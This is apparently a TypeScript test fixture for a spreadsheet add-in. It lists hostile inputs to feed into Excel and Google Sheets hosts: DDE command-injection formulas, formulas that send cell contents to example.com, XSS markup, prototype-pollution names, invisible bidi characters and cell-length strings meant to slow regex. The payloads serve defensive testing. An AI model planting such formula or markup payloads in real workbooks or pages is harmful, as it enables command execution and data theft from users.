// What a workbook may bring that means harm, and the two spreadsheets to bring it into.
import { readFileSync } from "node:fs";
import { excelHost } from "../../excel-addin/host";
import { sheetsHost } from "../../sheets-addon/host";
import type { Host } from "../../sidebar/host";
import { captureFunctions } from "../../workbench/excel-host/functions";
import { openExcel } from "../../workbench/excel-host/headless";
import { createGrid, type Library } from "../../workbench/grid";
import type { Grid } from "../../workbench/grid-types";
import { createHeadlessHost } from "../../workbench/sheets-host/headless";

/** Text that a spreadsheet takes for a formula, or a file opened elsewhere would. */
export const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://example.com/?"&A1,"Klik")',
  '=IMPORTXML(CONCAT("https://example.com/?",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "=UCJ_COVERAGE(1,1)",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
  "''=1+1",
  "=",
  '="',
  "={1,2}",
];

/** Markup that runs when a page takes it for HTML. */
export const MARKUP = [
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1"></svg>',
  "<script>window.hacked=1</script>",
  '</td></table><img src=x onerror="window.hacked=1">',
  '"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<a href="javascript:window.hacked=1">PU</a>',
  "<style>*{display:none}</style>",
  "{{constructor.constructor('window.hacked=1')()}}",
];

/** Names that every JavaScript object already has. */
export const MEMBERS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
];

/** Marks that turn or hide text. */
export const INVISIBLE = [
  "\u202e001.4a",
  "PU\u200f",
  "\u2066BPU\u2069",
  "\ufeffJakon",
  "P\u200bU",
  "\u0000PU",
];

const LONGEST = 32767;

/** As long as a cell can be, made of what makes careless patterns slow. */
export const LONG: readonly string[] = [
  ..."( ) [ { < \" ' , ; . - + = @ # % & \\ / * 1 0 a".split(" "),
  ...[
    "((",
    "((a)",
    "[a",
    "[[a",
    "[[a]",
    "( ",
    "a(",
    '""',
    "''!",
    "1.",
    "1,",
    "1'",
    "0-",
    "1/1/",
    "1 ",
    "a ",
    "A1:",
    "$A$1",
    "{0,0}",
    "{$1,",
  ],
  ...[
    "jumlah ",
    "s/d ",
    "sebanyak ",
    "sekitar ",
    "rp",
    "juta ",
    "segmen ",
    "UCJ_COVERAGE(",
    "IF(A1,",
    "labor+",
  ],
  ...[" ", "\t", "\n", "\u00a0", "\u200b", "\u202e", "\ud83d\ude00", "=", "<img ", "__proto__"],
].flatMap((part) => {
  const text = part.repeat(Math.ceil(LONGEST / part.length)).slice(0, LONGEST - 2);
  return [text, `${text}x`, `x${text}`, `1${text}!`];
});

export interface Opened {
  readonly host: Host;
  readonly grid: Grid;
  close(): void;
}

const library: Library = require("@odoo/o-spreadsheet/dist/o_spreadsheet.cjs");

export async function openInExcel(): Promise<Opened> {
  const { grid } = createGrid(library);
  const pane = await openExcel({ grid, scripts: [readFileSync("dist/excel/functions.js", "utf8")] });
  const metadata = JSON.parse(readFileSync("dist/excel/functions.json", "utf8"));
  grid.register(captureFunctions(pane.window, metadata, pane.host.unsupported));
  const { Office, Excel } = pane.window;
  Object.assign(globalThis, { Office, Excel });
  return { host: excelHost(), grid, close: () => pane.close() };
}

export async function openInSheets(): Promise<Opened> {
  const { grid } = createGrid(library);
  const server = createHeadlessHost(grid);
  server.open();
  Object.assign(globalThis, { google: server.client() });
  return { host: sheetsHost("id"), grid, close: () => undefined };
}

/** Puts text and numbers as they are, nothing as a formula. */
export function put(
  grid: Grid,
  rows: readonly (readonly (string | number)[])[],
  sheet = grid.activeSheet().id,
): void {
  grid.apply(
    rows.flatMap((line, row) =>
      line.map((content, column) => ({
        do: "content" as const,
        sheet,
        row,
        column,
        content,
        literal: typeof content === "string",
      })),
    ),
  );
}
